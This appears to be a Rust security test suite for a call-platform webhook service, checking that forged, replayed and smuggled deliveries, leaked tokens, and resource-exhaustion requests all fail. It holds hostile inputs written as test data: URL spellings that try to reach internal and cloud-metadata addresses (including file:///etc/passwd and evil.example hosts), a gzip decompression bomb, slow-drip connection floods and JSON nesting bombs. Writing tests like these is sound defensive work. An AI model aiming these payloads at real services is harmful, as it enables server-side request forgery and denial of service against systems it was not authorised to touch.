//! What an attacker would try, beside what the other stories tell. `docs/security.md` says of each threat which of them
//! covers it, and the last story here that it tells the truth.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::fmt::Write;
use std::path::Path;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use aws_sdk_dynamodb::config::{ConfigBag, Intercept, RuntimeComponents};
use aws_sdk_dynamodb::types::AttributeValue;
use aws_smithy_runtime_api::box_error::BoxError;
use aws_smithy_runtime_api::client::interceptors::context::BeforeTransmitInterceptorContextMut;
use http::Method;
use lambda_http::Body;
use recording_archiver::source::{Hosts, Limits, Sources, is_public};
use recording_archiver::{Archiver, Outcome};
use serde_json::{Value, json};
use shared::auth::exotel::Tokens;
use shared::auth::{Secret, vocobase};
use shared::config::Storage;
use shared::recording::State;
use shared::webhook::App;
use shared::{Clock, Instant, Provider, SessionKey, Webhook};
use tests::faults::between;
use tests::lambda::{RuntimeApi, environment, event, spawn};
use tests::log::Log;
use tests::source::{Content, Source};
use tests::{Answer, EXOTEL, Item, LocalProcess, World, answer, at, now, text};
use tokio::io::AsyncWriteExt;
use tokio::process::{Child, Command};
use tracing::instrument::WithSubscriber;

const SENT_AT: &str = "2026-03-15T14:32:08Z";
const TABLES: [&str; 4] = ["events", "sessions", "transcripts", "recordings"];
const SECRETS: [(&str, &str); 2] =
    [("EXOTEL_TOKEN_SECRETS", "k1:first,k2:second"), ("VOCOBASE_SECRETS", "whsec_known")];

fn tokens(secrets: &[(&str, &str)]) -> Tokens {
    let secrets = secrets.iter().map(|(kid, secret)| ((*kid).to_owned(), Secret::new(secret))).collect();
    Tokens { secrets, session_tokens_only: false }
}

/// The tokens of a world with [`SECRETS`].
fn known() -> Tokens {
    tokens(&[("k1", "first"), ("k2", "second")])
}

/// The URL of a function with what comes after its name.
fn url(world: &World, webhook: Webhook, rest: &str) -> String {
    format!("{}/{}/{rest}", world.run.base, webhook.name())
}

/// What a delivery with this credential is answered.
async fn post(world: &World, webhook: Webhook, rest: &str, body: impl Into<Vec<u8>>) -> Answer {
    answer(world.http.post(url(world, webhook, rest)).body(body.into())).await
}

async fn everything(world: &World) -> Vec<(&'static str, Vec<Item>)> {
    let mut all = Vec::new();
    for table in TABLES {
        all.push((table, world.items(table).await));
    }
    all
}

fn sessions(items: &[Item]) -> Vec<&str> {
    items.iter().map(|item| text(item, "session")).collect()
}

/// An archiver over the world's stores that takes recordings from this machine, and no names.
fn archiver(world: &World) -> Archiver {
    let environment = world.stores().environment();
    let storage = Storage::read(&|name| environment.get(name).cloned()).unwrap();
    let lookup = Arc::new(|_| -> futures_util::future::BoxFuture<'static, _> {
        Box::pin(async { Err(std::io::Error::other("no names here")) })
    });
    let sources = Sources::and_loopback(Hosts::s3(), Limits::default(), lookup).unwrap();
    Archiver::new(storage, world.clients.clone(), sources, now())
}

fn soon() -> tokio::time::Instant {
    tokio::time::Instant::now() + Duration::from_mins(5)
}

// Forged and replayed deliveries.

#[tokio::test(flavor = "multi_thread")]
async fn a_captured_delivery_is_believed_as_it_was_sent_and_in_time_and_changes_nothing_again() {
    let time = Arc::new(Mutex::new(Instant::parse(SENT_AT).unwrap()));
    let clock: Clock = {
        let time = Arc::clone(&time);
        Arc::new(move || *time.lock().unwrap())
    };
    let world = World::with(&SECRETS, clock).await;
    let sent_at = *time.lock().unwrap();
    let call = |sent_at: Instant, status: &str| {
        let data = json!({ "session_id": "s1", "call": { "status": status },
            "recording_url": "https://b.s3.amazonaws.com/r.wav?X-Amz-Signature=s",
            "transcript": [{ "role": "user", "content": "Hello", "timestamp": SENT_AT }] });
        json!({ "event": "session.completed", "timestamp": sent_at, "data": data }).to_string()
    };
    let captured = call(sent_at, "completed");
    let (timestamp, signature) = world.sign(captured.as_bytes(), sent_at);
    let send = async |signatures: &[&str], body: &str| {
        let mut request = world.http.post(world.url(Webhook::SessionCompleted)).body(body.to_owned());
        request = request.header(vocobase::TIMESTAMP, &timestamp);
        for signature in signatures {
            request = request.header(vocobase::SIGNATURE, *signature);
        }
        answer(request).await.status
    };
    assert_eq!(send(&[&signature], &captured).await, 200);
    let stored = everything(&world).await;
    assert_eq!(sessions(&stored[1].1), ["vocobase#s1"]);

    // An attacker has it, and nothing but it.
    let other = format!("sha256={}", "0".repeat(64));
    for (seconds, expected) in [(0, 200), (1, 200), (300, 200), (-300, 200), (301, 401), (86_400, 401), (-301, 401)] {
        *time.lock().unwrap() = sent_at.plus_seconds(seconds);
        assert_eq!(send(&[&signature], &captured).await, expected, "after {seconds} s");
        assert_eq!(send(&[&signature], &captured.replace("s1", "s2")).await, 401, "after {seconds} s");
        assert_eq!(send(&[&signature, &signature], &captured).await, 401, "after {seconds} s");
        assert_eq!(send(&[&other, &signature], &captured).await, 401, "after {seconds} s");
        assert_eq!(send(&[&signature, &other], &captured).await, 401, "after {seconds} s");
        assert_eq!(send(&[&format!("{other},{}", &signature[7..])], &captured).await, 401, "after {seconds} s");
        assert_eq!(everything(&world).await, stored, "after {seconds} s");
    }

    // Nor does it take back what the platform said since.
    let later = sent_at.plus_seconds(60);
    *time.lock().unwrap() = later;
    assert_eq!(world.deliver(Webhook::SessionCompleted, call(later, "failed")).await.status, 200);
    let newer = everything(&world).await;
    assert_eq!(text(&newer[1].1[0], "call_status"), "failed");
    assert_eq!(send(&[&signature], &captured).await, 200);
    assert_eq!(everything(&world).await, newer);
}

#[tokio::test(flavor = "multi_thread")]
async fn no_credential_of_another_kind_key_or_spelling_opens_anything() {
    // One secret for everything is unwise, and opens nothing even so.
    let same = [("EXOTEL_TOKEN_SECRETS", "k1:first,k2:second"), ("VOCOBASE_SECRETS", "first")];
    let world = World::with(&same, at(SENT_AT)).await;
    let (webhook, body) = (Webhook::SessionEnd, r#"{"session_id":"s1","data":{"session_id":"s1"}}"#);
    let [first, second] =
        [("k1", "first"), ("k2", "second")].map(|secret| tokens(&[secret]).function_token(webhook).unwrap());
    let (mac, other) = (&first[3..], &second[3..]);
    let (timestamp, signature) = world.sign(body.as_bytes(), Instant::parse(SENT_AT).unwrap());
    let fullwidth: String = mac.chars().map(|digit| char::from_u32(u32::from(digit) + 0xfee0).unwrap()).collect();
    for token in [
        // Each key with the other's code, and keys that there are not.
        format!("k1.{other}"),
        format!("k2.{mac}"),
        format!("K1.{mac}"),
        format!("k1%00.{mac}"),
        format!("k1,k2.{mac}"),
        format!("k1:first.{mac}"),
        format!("*.{mac}"),
        format!("k1.k1.{mac}"),
        // No code, half of one, and two.
        "k1.".to_owned(),
        "k1.%00".to_owned(),
        format!("k1.{}", &mac[..32]),
        format!("k1.{mac}{mac}"),
        format!("k1.0x{}", &mac[2..]),
        // Digits that are digits elsewhere.
        format!("k1.{fullwidth}"),
        format!("k1.{}\u{301}", &mac[..63]),
        // Vocobase's signature of this body, with the same secret.
        format!("k1.{}", &signature[7..]),
        // Another function's.
        tokens(&[("k1", "first")]).function_token(Webhook::InsightsEvents).unwrap(),
    ] {
        let token = percent_encoding::utf8_percent_encode(&token, percent_encoding::CONTROLS).to_string();
        for rest in [format!("?token={token}"), token.clone(), format!("?session=s1&token={token}")] {
            assert_eq!(post(&world, webhook, &rest, body).await.status, 401, "{rest}");
        }
    }
    let vocobase = async |signature: &str, timestamp: &str| {
        let request = world.http.post(world.url(Webhook::SessionCompleted)).body(body);
        let request = request.header(vocobase::SIGNATURE, http::HeaderValue::from_bytes(signature.as_bytes()).unwrap());
        answer(request.header(vocobase::TIMESTAMP, timestamp)).await.status
    };
    for wrong in [
        "sha256=".to_owned(),
        "sha256".to_owned(),
        signature[7..].to_owned(),
        signature.replace("sha256", "SHA256"),
        signature.replace("sha256", "sha1"),
        format!("sha256={mac}"),
        format!("sha256={fullwidth}"),
        format!("{signature}{}", &signature[7..]),
        format!("{signature}, {signature}"),
    ] {
        assert_eq!(vocobase(&wrong, &timestamp).await, 401, "{wrong}");
    }
    assert!(everything(&world).await.iter().all(|(_, items)| items.is_empty()));

    // Upper-case digits are the same code, for both platforms.
    assert_eq!(post(&world, webhook, &format!("?token=k1.{}", mac.to_uppercase()), body).await.status, 200);
    assert_eq!(vocobase(&format!("sha256={}", signature[7..].to_uppercase()), &timestamp).await, 200);
}

// A URL that leaks.

#[tokio::test(flavor = "multi_thread")]
async fn a_leaked_url_opens_one_function_for_writing_and_is_closed_by_a_rotation() {
    let world = World::with(&SECRETS, now()).await;
    let nothing = json!({ "http_code": 200, "response": { "data": {} } });
    let real = r#"{"session_id":"real","contact_uri":"+919876543210","bot_id":"b1"}"#;
    assert_eq!(world.deliver(Webhook::SessionStart, real).await.status, 200);

    // A function's token: any call, of this webhook only; what is known is not told.
    let leaked = format!("?token={}", known().function_token(Webhook::SessionEnd).unwrap());
    for body in [r#"{"session_id":"forged"}"#, r#"{"session_id":"real"}"#, "not JSON"] {
        let answer = post(&world, Webhook::SessionEnd, &leaked, body).await;
        assert_eq!(answer, Answer { status: 200, json: nothing.clone() }, "{body}");
    }
    for method in [Method::GET, Method::HEAD, Method::PUT, Method::DELETE] {
        let request = world.http.request(method.clone(), url(&world, Webhook::SessionEnd, &leaked));
        assert_eq!(answer(request).await.status, 405, "{method}");
    }
    for other in Webhook::ALL.into_iter().filter(|other| *other != Webhook::SessionEnd) {
        assert_eq!(post(&world, other, &leaked, r#"{"session_id":"forged"}"#).await.status, 401, "{}", other.name());
    }
    // What the platform said stands: a forgery can add to a call, end it, and not take its words away.
    let calls = world.items("sessions").await;
    assert_eq!(sessions(&calls), ["exotel#forged", "exotel#real"]);
    assert_eq!((text(&calls[1], "state"), text(&calls[1], "contact")), ("ended", "+919876543210"));

    // A session's token: this call, of this webhook only.
    let leaked_session = |webhook| format!("?session=s1&token={}", known().session_token(webhook, "s1").unwrap());
    let rest = leaked_session(Webhook::TranscriptEvents);
    assert_eq!(post(&world, Webhook::TranscriptEvents, &rest, r#"{"session_id":"s1"}"#).await.status, 200);
    assert_eq!(post(&world, Webhook::TranscriptEvents, &rest, real).await.status, 401);
    for other in EXOTEL.into_iter().filter(|other| *other != Webhook::TranscriptEvents) {
        assert_eq!(post(&world, other, &rest, r#"{"session_id":"s1"}"#).await.status, 401, "{}", other.name());
    }

    // A rotation closes both.
    let rotated = World::with(&[("EXOTEL_TOKEN_SECRETS", "k3:third")], now()).await;
    assert_eq!(post(&rotated, Webhook::SessionEnd, &leaked, real).await.status, 401);
    assert_eq!(post(&rotated, Webhook::TranscriptEvents, &rest, r#"{"session_id":"s1"}"#).await.status, 401);
    assert!(everything(&rotated).await.iter().all(|(_, items)| items.is_empty()));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_leaked_session_start_url_tells_the_profile_and_hands_out_urls_for_the_named_session() {
    let world = World::with(&SECRETS, now()).await;
    let put = world.clients.dynamodb.put_item().table_name(&world.stores().tables["profiles"]);
    let text = |text: &str| AttributeValue::S(text.to_owned());
    let end = AttributeValue::M([("session_end".to_owned(), AttributeValue::M(HashMap::new()))].into());
    put.item("profile", text("bot#b1")).item("greeting", text("Namaste!")).item("webhooks", end).send().await.unwrap();
    let leaked = format!("?token={}", known().function_token(Webhook::SessionStart).unwrap());
    let told = post(&world, Webhook::SessionStart, &leaked, r#"{"session_id":"s9","bot_id":"b1"}"#).await.json;
    // That much is what the URL is for, and why it is the one to guard.
    assert_eq!(told["response"]["data"]["greeting_message"]["text"], "Namaste!");
    let given = told["response"]["data"]["webhook_config"]["session_end"]["url"].as_str().unwrap().to_owned();
    let deliver = async |body: &'static str| answer(world.http.post(&given).body(body)).await.status;
    assert_eq!((deliver(r#"{"session_id":"s9"}"#).await, deliver(r#"{"session_id":"s8"}"#).await), (200, 401));
    // No id of a bot or a number names another kind of profile.
    for body in [
        r#"{"session_id":"s9","landing_number":"b1"}"#,
        r#"{"session_id":"s9","bot_id":"bot#b1"}"#,
        r#"{"session_id":"s9","bot_id":"","landing_number":"x#bot#b1"}"#,
    ] {
        let told = post(&world, Webhook::SessionStart, &leaked, body).await.json;
        assert_eq!(told, json!({ "http_code": 200, "response": { "data": {} } }), "{body}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn with_memory_a_leaked_session_start_url_tells_a_numbers_history_and_without_it_none() {
    let world = World::with(&SECRETS, now()).await;
    let leaked = format!("?token={}", known().function_token(Webhook::SessionStart).unwrap());
    let body = |session: &str, bot: &str| json!({ "session_id": session, "bot_id": bot, "contact_uri": "+919876543210", "start_time": "2026-03-15T14:30:00Z" });
    let greeting = "{{ history.calls }} calls";
    for (name, memory) in [("bot#remembers", json!(true)), ("bot#forgets", json!(false)), ("bot#unsaid", Value::Null)] {
        crate::answers::put_profile(&world, name, &json!({ "greeting": greeting, "memory": memory })).await;
    }
    assert_eq!(world.deliver(Webhook::SessionEnd, body("earlier", "b1").to_string()).await.status, 200);
    for (bot, told) in [("remembers", "1 calls"), ("forgets", " calls"), ("unsaid", " calls")] {
        let answer = post(&world, Webhook::SessionStart, &leaked, body("forged", bot).to_string()).await;
        let said = &answer.json["response"]["data"]["greeting_message"]["text"];
        assert_eq!(said.as_str().unwrap().replace("0 calls", " calls"), told, "{bot}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_answer_and_no_line_of_the_log_says_a_credential_or_repeats_what_came() {
    let world = World::with(&SECRETS, now()).await;
    let log = Log::of(&["shared", "session_start", "session_end", "session_completed"]);
    let marker = "marker-of-an-attacker";
    let right = known().function_token(Webhook::SessionEnd).unwrap();
    let session = known().session_token(Webhook::SessionEnd, "s1").unwrap();
    let app = |webhook| world.instance(webhook, Clone::clone, now());
    let (end, completed) = (app(Webhook::SessionEnd), app(Webhook::SessionCompleted));
    let mut said = String::new();
    for (method, query, body) in [
        (Method::POST, format!("token={right}"), format!(r#"{{"session_id":"s1","bot_name":"{marker}"}}"#)),
        (Method::POST, format!("token={right}"), format!("{marker} is not JSON")),
        (Method::POST, format!("token={right}"), format!(r#"{{"{marker}":1,"events":"{marker}"}}"#)),
        (Method::POST, format!("session=s1&token={session}"), format!(r#"{{"session_id":"{marker}"}}"#)),
        (Method::POST, format!("token={marker}"), marker.to_owned()),
        (Method::POST, format!("token={marker}.{}", "0".repeat(64)), marker.to_owned()),
        (Method::POST, format!("token={right}&token={marker}"), marker.to_owned()),
        (Method::GET, format!("token={right}&{marker}"), String::new()),
    ] {
        let request = http::Request::builder().method(method).uri(format!("/?{query}"));
        let request = request.header(vocobase::SIGNATURE, marker).header(vocobase::TIMESTAMP, marker);
        let request = || request.body(Body::from(body.clone())).unwrap();
        let answered = cli::dev::call(Webhook::SessionEnd, &end, request()).with_subscriber(log.dispatch.clone()).await;
        let _ = writeln!(said, "{:?} {}", answered.headers(), String::from_utf8_lossy(answered.body()));
    }
    let request = http::Request::post("/").header(vocobase::SIGNATURE, format!("sha256={marker}"));
    let request = request.header(vocobase::TIMESTAMP, marker).body(Body::from(marker)).unwrap();
    let answered = cli::dev::call(Webhook::SessionCompleted, &completed, request);
    let answered = answered.with_subscriber(log.dispatch.clone()).await;
    let _ = writeln!(said, "{:?} {}", answered.headers(), String::from_utf8_lossy(answered.body()));
    let heard = log.heard();
    assert_eq!(heard.matches(" delivery ").count(), 9, "{heard}");
    for private in [marker, &right[3..], &session[3..], "first", "second", "whsec_known"] {
        assert!(!said.contains(private), "an answer says {private}: {said}");
        assert!(!heard.contains(private), "the log says {private}: {heard}");
    }
}

// Another session than the token's.

#[tokio::test(flavor = "multi_thread")]
async fn a_sessions_token_stores_under_no_other_session_however_the_body_names_it() {
    let world = World::with(&SECRETS, now()).await;
    let end = Webhook::SessionEnd;
    let token = known().session_token(end, "é1").unwrap();
    let rest = format!("?session=%C3%A91&token={token}");
    for (body, expected) in [
        (r#"{"session_id":"s2"}"#, 401),
        // The same to the eye.
        ("{\"session_id\":\"e\u{301}1\"}", 401),
        (r#"{"session_id":"é1\u0000"}"#, 401),
        (r#"{"session_id":"É1"}"#, 401),
        (r#"{"session_id":1}"#, 401),
        // None is chosen of two: kept aside, with whose token it was.
        (r#"{"session_id":"é1","session_id":"s2"}"#, 200),
        (r#"{"session_id":"s2","session_id":"é1"}"#, 200),
        (r#"{"session_id":"é1","session\u005fid":"s2"}"#, 200),
        (r#"{"session_id":["é1","s2"]}"#, 200),
        (r#"[{"session_id":"s2"}]"#, 200),
        (r#"{"session_id":"é1"}{"session_id":"s2"}"#, 200),
        // This is the session, and who else is named means nothing.
        (r#"{"session_id":"\u00e91","Session_Id":"s2","metadata":{"session_id":"s2"}}"#, 200),
    ] {
        assert_eq!(post(&world, end, &rest, body).await.status, expected, "{body}");
    }
    assert_eq!(sessions(&world.items("sessions").await), ["exotel#é1"]);
    let aside = world.quarantined().await;
    assert_eq!(aside.len(), 6);
    assert!(aside.iter().all(|item| text(item, "granted_session_id") == "é1"));
    // Two places for a session, or for a token, are one too many.
    let before = everything(&world).await;
    let other = known().session_token(end, "s2").unwrap();
    for rest in [
        format!("s2/{other}{rest}"),
        format!("s2/{other}?session=%C3%A91"),
        format!("s2{rest}"),
        format!("{other}{rest}"),
        format!("{rest}&session=s2"),
        format!("{rest}&%73ession=s2"),
    ] {
        for body in [r#"{"session_id":"é1"}"#, r#"{"session_id":"s2"}"#] {
            assert_eq!(post(&world, end, &rest, body).await.status, 401, "{rest}");
        }
    }
    assert_eq!(everything(&world).await, before);
}

#[tokio::test(flavor = "multi_thread")]
async fn of_two_members_of_one_name_none_is_chosen_where_it_matters_and_elsewhere_the_last() {
    let world = World::with(&SECRETS, now()).await;
    let aside = async |webhook, body: &str| {
        let before = world.quarantined().await.len();
        assert_eq!(world.deliver(webhook, body).await.status, 200, "{body}");
        world.quarantined().await.len() - before
    };
    for (one, two) in [("a", "b"), ("b", "a")] {
        for member in
            ["session_id", "bot_id", "landing_number", "contact_uri", "trigger_reason", "start_time", "events"]
        {
            let event = |id| format!(r#"[{{"event_type":"{id}"}}]"#);
            let value = |id| if member == "events" { event(id) } else { format!("\"{id}\"") };
            let body = format!(r#"{{"session_id":"s1","{member}":{},"{member}":{}}}"#, value(one), value(two));
            assert_eq!(aside(Webhook::SessionStart, &body).await, 1, "{body}");
        }
        for body in [
            format!(r#"{{"data":{{"session_id":"{one}","session_id":"{two}"}}}}"#),
            format!(r#"{{"data":{{"session_id":"{one}"}},"data":{{"session_id":"{two}"}}}}"#),
            format!(r#"{{"data":{{"session_id":"s1","recording_url":"{one}","recording_url":"{two}"}}}}"#),
            format!(r#"{{"event":"session.completed","event":"{one}","data":{{"session_id":"{two}"}}}}"#),
        ] {
            assert_eq!(aside(Webhook::SessionCompleted, &body).await, 1, "{body}");
        }
        assert_eq!(world.items("sessions").await, [] as [Item; 0]);
    }
    for (one, two) in [("a", "b"), ("b", "a")] {
        let body =
            format!(r#"{{"session_id":"{two}","more":1,"more":2,"custom_parameters":{{"k":"{one}","k":"{two}"}}}}"#);
        assert_eq!(aside(Webhook::SessionStart, &body).await, 0);
        let call = &world.items_of("sessions", &format!("exotel#{two}")).await[0];
        assert_eq!(text(call, "custom_parameters"), format!(r#"{{"k":"{two}"}}"#));
    }
}

// Where a recording may come from.

#[test]
fn no_spelling_of_an_address_or_a_host_leads_where_a_recording_must_not_come_from() {
    for url in [
        // This machine and the one beside it, in every notation.
        "https://127.1/",
        "https://2130706433/",
        "https://0x7f000001/",
        "https://0177.0.0.01/",
        "https://0/",
        "https://127.0.0.1./",
        "https://①②⑦.⓪.⓪.①/",
        "https://127。0。0。1/",
        "https://%31%32%37.0.0.1/",
        "https://169.254.169.254/latest/meta-data/",
        "https://2852039166/",
        "https://0xa9fea9fe/",
        "https://[::1]/",
        "https://[::]/",
        "https://[::ffff:169.254.169.254]/",
        "https://[::ffff:a9fe:a9fe]/",
        "https://[fd00:ec2::254]/",
        "https://[64:ff9b::a9fe:a9fe]/",
        "https://[2002:a9fe:a9fe::1]/",
        "https://[fe80::1%25eth0]/",
        "https://[0:0:0:0:0:ffff:7f00:1]/",
        "https://localhost/",
        "https://localhost./",
        "https://metadata.google.internal/",
        "https://instance-data/",
        // S3's name as something else than the host.
        "https://b.s3.amazonaws.com@evil.example/",
        "https://b.s3.amazonaws.com:443@evil.example/",
        "https://b.s3.amazonaws.com%40evil.example/",
        "https://evil.example/b.s3.amazonaws.com/",
        "https://evil.example?b.s3.amazonaws.com",
        "https://evil.example#b.s3.amazonaws.com",
        "https://evil.example\\@b.s3.amazonaws.com/",
        "https:\\\\evil.example\\b.s3.amazonaws.com",
        "https://evil.example%2f.s3.amazonaws.com/",
        "https://evil.example%23.s3.amazonaws.com/",
        "https://evil.example%00.s3.amazonaws.com/",
        "https://b.s3.amazonaws.com%00.evil.example/",
        "https://b.s3.amazonaws.com\n.evil.example/",
        "https://b.s3.amazonaws.com\t.evil.example/",
        "https://b.s3.amazonaws.com.evil.example/",
        "https://bs3.amazonaws.com/",
        "https://s3-amazonaws.com/",
        "https://b.s3.amazonaws.co/",
        "https://b.s3.amazonaws.com.cn/",
        "https://b.s3.amazonaws.com./",
        "https://b.s3.amazonaws.com../",
        "https://b.s3.x.amazonaws.com/",
        "https://b.s3.us-east-1.x.amazonaws.com/",
        "https://s3.eu-west-1.vpce-1a2b3c4d.amazonaws.com/",
        "https://x.execute-api.eu-west-1.amazonaws.com/",
        // Letters that look like others.
        "https://b.s3.amazonaws.cоm/",
        "https://b.ѕ3.amazonaws.com/",
        "https://xn--b-s3-amazonaws-com/",
        // Other ports, other schemes, credentials, no host.
        "https://b.s3.amazonaws.com:444/",
        "https://b.s3.amazonaws.com:0/",
        "https://b.s3.amazonaws.com:65616/",
        "http://b.s3.amazonaws.com/",
        "HTTP://b.s3.amazonaws.com:443/",
        "ftp://b.s3.amazonaws.com/",
        "file:///etc/passwd",
        "file://b.s3.amazonaws.com/etc/passwd",
        "data:audio/wav;base64,AAAA",
        "gopher://b.s3.amazonaws.com/",
        "s3://b/key",
        "wss://b.s3.amazonaws.com/",
        "blob:https://b.s3.amazonaws.com/",
        "javascript:alert(1)",
        "view-source:https://b.s3.amazonaws.com/",
        "https://:secret@b.s3.amazonaws.com/",
        "https://",
        "https:///",
        "//b.s3.amazonaws.com/",
        "b.s3.amazonaws.com/r.wav",
        "",
        " ",
        "\0",
    ] {
        let found = Hosts::s3().check(url);
        assert!(found.is_err(), "{url} leads to {found:?}");
    }
    // What is checked is what is fetched: a spelling that is taken names the host that was looked at.
    for url in [
        "https://b.s3.amazonaws.com/r.wav",
        "HTTPS://B.S3.AMAZONAWS.COM:443/r.wav",
        "https:b.s3.amazonaws.com/r.wav",
        " https://b.s3.amazonaws.com/r.wav\n",
        "https://b.s3.amazon\taws.com/r.wav",
        "https:\\\\b.s3.amazonaws.com\\r.wav",
        "https://b。s3。amazonaws。com/r.wav",
        "https://ｂ.s3.amazonaws.com/r.wav",
        "https://%62.s3.amazonaws.com/r.wav",
        "https://@b.s3.amazonaws.com/r.wav",
    ] {
        let found = Hosts::s3().check(url).unwrap_or_else(|why| panic!("{url}: {why}"));
        assert_eq!((found.host_str(), found.port()), (Some("b.s3.amazonaws.com"), None), "{url}");
    }
}

#[test]
fn no_address_that_carries_a_private_one_inside_is_public() {
    for private in ["169.254.169.254", "10.0.0.1", "172.31.255.255", "192.168.0.1", "127.0.0.53", "100.100.100.200"] {
        let v4: std::net::Ipv4Addr = private.parse().unwrap();
        let [a, b, c, d] = v4.octets();
        let (high, low) = (u16::from_be_bytes([a, b]), u16::from_be_bytes([c, d]));
        for address in [
            private.to_owned(),
            format!("::ffff:{private}"),
            format!("::ffff:0:{private}"),
            format!("::{private}"),
            format!("64:ff9b::{private}"),
            format!("64:ff9b:1::{private}"),
            format!("2002:{high:x}:{low:x}::1"),
            format!("2001:0:{high:x}:{low:x}::1"),
            format!("fe80::5efe:{private}"),
        ] {
            assert!(!is_public(address.parse().unwrap()), "{address}");
        }
    }
    // The metadata services that have an address of version 6, and ranges that nobody is given.
    for address in ["fd00:ec2::254", "fd20:ce::254", "100::1", "5f00::1", "4000::1", "fec0::1", "2001:1ff::1"] {
        assert!(!is_public(address.parse().unwrap()), "{address}");
    }
}

// Bombs and drips.

#[tokio::test(flavor = "multi_thread")]
async fn what_says_that_it_is_compressed_is_kept_as_it_is() {
    let world = World::with(&SECRETS, now()).await;
    // 100 MB of nothing in 100 KB.
    let mut bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..10_000 {
        std::io::Write::write_all(&mut bomb, &[b' '; 10_000]).unwrap();
    }
    let mut honest = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut honest, br#"{"session_id":"s1","data":{"session_id":"s1"}}"#).unwrap();
    for body in [bomb.finish().unwrap(), honest.finish().unwrap()] {
        for webhook in [Webhook::SessionEnd, Webhook::SessionCompleted] {
            let (timestamp, signature) = world.sign(&body, Instant::now());
            let request = world.http.post(world.url(webhook)).header("content-encoding", "gzip").body(body.clone());
            let request = request.header(vocobase::TIMESTAMP, timestamp).header(vocobase::SIGNATURE, signature);
            assert_eq!(answer(request).await.status, 200);
            let mut kept = Vec::new();
            for item in world.quarantined().await {
                kept.push((text(&item, "webhook").to_owned(), world.body(&item).await));
            }
            assert!(kept.contains(&(webhook.name().to_owned(), body.clone())), "{} bytes", body.len());
        }
    }
    assert_eq!(world.items("sessions").await, [] as [Item; 0]);

    for encoding in ["gzip", "deflate", "br", "zstd", "gzip, gzip"] {
        // It is none of these: whoever unpacks it finds that out.
        let content = Content::wav(100_000, 77);
        let sent = content.clone();
        let source = Source::start(move |_, _| sent.whole().header("Content-Encoding", encoding)).await;
        let id = encoding.replace(", ", "-");
        let url = format!("http://{}/r.wav?Expires={}", source.address, Instant::now().unix_seconds() + 3600);
        let body = json!({ "data": { "session_id": id, "recording_url": url } }).to_string();
        assert_eq!(world.deliver(Webhook::SessionCompleted, body).await.status, 200);
        let key = SessionKey::new(Provider::Vocobase, &id).unwrap();
        assert_eq!(archiver(&world).archive(&key, "worker", soon()).await.unwrap(), Outcome::Archived, "{encoding}");
        let job = &world.items_of("recordings", key.as_str()).await[0];
        assert_eq!((text(job, "bytes"), text(job, "sha256")), ("100000", content.sha256().as_str()), "{encoding}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn requests_that_drip_hold_up_neither_others_nor_the_end_of_the_local_run() {
    let mut process = LocalProcess::start(&["--ephemeral"]).await;
    let address = process.base.trim_start_matches("http://").to_owned();
    let end = process.endpoints.functions["session_end"].clone();
    let path = end.trim_start_matches(&process.base);
    let mut dripping = Vec::new();
    for nth in 0..100 {
        let mut socket = tokio::net::TcpStream::connect(&address).await.unwrap();
        // Half of them never come to an end of their headers, the others not of their bodies.
        let head = format!("POST {path} HTTP/1.1\r\nHost: {address}\r\nContent-Length: 1000000\r\n");
        socket.write_all(head.as_bytes()).await.unwrap();
        if nth % 2 == 0 {
            socket.write_all(b"\r\n{").await.unwrap();
        }
        dripping.push(socket);
    }
    let http = tests::http_client();
    for nth in 0..20 {
        for socket in &mut dripping {
            socket.write_all(b"a").await.unwrap();
        }
        let request = http.post(&end).body(format!(r#"{{"session_id":"s{nth}"}}"#));
        assert_eq!(answer(request).await.status, 200, "{nth}");
    }
    process.signal("TERM");
    let ended = tokio::time::timeout(Duration::from_mins(1), process.ended()).await;
    assert!(ended.expect("it ends").success());
}

/// About as much body as fits into a function URL's event.
const MOST: usize = 4_400_000;

fn repeated(piece: &str, separator: &str) -> String {
    let times = MOST / (piece.len() + separator.len());
    std::iter::repeat_n(piece, times).collect::<Vec<_>>().join(separator)
}

/// Pieces that differ, with their quotation marks escaped as the event has them.
fn numbered(piece: impl Fn(usize) -> String) -> String {
    let mut pieces = String::with_capacity(MOST);
    let mut length = 0;
    for nth in 0.. {
        let piece = piece(nth);
        length += piece.len() + piece.matches('"').count() + 1;
        if length > MOST {
            break;
        }
        pieces.push_str(if nth > 0 { "," } else { "" });
        pieces.push_str(&piece);
    }
    pieces
}

fn exotel(members: &str) -> String {
    format!(r#"{{"session_id":"s1",{members}}}"#)
}

fn vocobase_data(members: &str) -> String {
    format!(r#"{{"data":{{"session_id":"s1",{members}}}}}"#)
}

fn transcripts(turns: &str) -> String {
    exotel(&format!(r#""events":[{{"event_type":"transcript","event_data":{{"transcripts":[{turns}]}}}}]"#))
}

/// Bodies as large as they can be that are made to cost most: what they are, whose they are, and themselves.
fn bombs() -> Vec<(&'static str, Webhook, String)> {
    let deep = |levels: usize, inner: &str| format!("{}{inner}{}", "[".repeat(levels), "]".repeat(levels));
    let keys = numbered(|nth| format!(r#""{nth}":1"#));
    let digits = "1".repeat(MOST);
    let empty = repeated("{}", ",");
    let turn = |nth: usize| format!(r#"{{"sequence":{nth},"transcript_segments":[{{"text":"a"}}]}}"#);
    let most = |object: &str| vec![object; 32_000].join(",");
    let insight = |nth: usize| format!(r#"{{"event_type":"{nth}","event_data":1}}"#);
    let (start, turns) = (Webhook::SessionStart, Webhook::TranscriptEvents);
    vec![
        ("depth", start, exotel(&format!(r#""custom_parameters":{}"#, deep(MOST / 2, "")))),
        ("depth that is not read", start, exotel(&format!(r#""more":{}"#, deep(MOST / 2, "")))),
        ("depth that is not closed", start, "[".repeat(MOST)),
        ("depth in a text", start, exotel(&format!(r#""custom_parameters":"{}""#, deep(MOST / 2, "")))),
        ("depth with a burden", start, exotel(&format!(r#""custom_parameters":{}"#, deep(120, &repeated("1", ","))))),
        ("a million keys", start, exotel(&format!(r#""custom_parameters":{{{keys}}}"#))),
        ("a million keys that are not read", start, exotel(&keys)),
        ("a list", start, exotel(&format!(r#""custom_parameters":[{}]"#, repeated("1", ",")))),
        ("digits", start, exotel(&format!(r#""start_time":{digits}"#))),
        ("an exponent", start, exotel(&format!(r#""bot_id":1e{digits}"#))),
